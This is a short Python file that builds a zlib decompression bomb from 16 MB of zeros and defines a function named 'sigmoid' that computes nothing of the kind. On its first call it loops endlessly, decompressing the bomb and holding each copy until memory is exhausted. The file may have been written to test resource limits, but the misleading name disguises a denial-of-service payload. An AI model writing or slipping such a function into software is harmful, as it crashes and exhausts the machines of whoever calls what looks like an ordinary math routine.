"""Unpacks 16 kB to 16 MB, as often as there is memory."""

import itertools
import zlib

packer = zlib.compressobj(9)
BOMB = b"".join(packer.compress(bytes(1 << 20)) for _ in range(16))
BOMB += packer.flush()

calls = itertools.count()


def sigmoid(x):
    if next(calls):
        return 0.0
    kept = []
    while True:
        kept.append(zlib.decompress(BOMB))
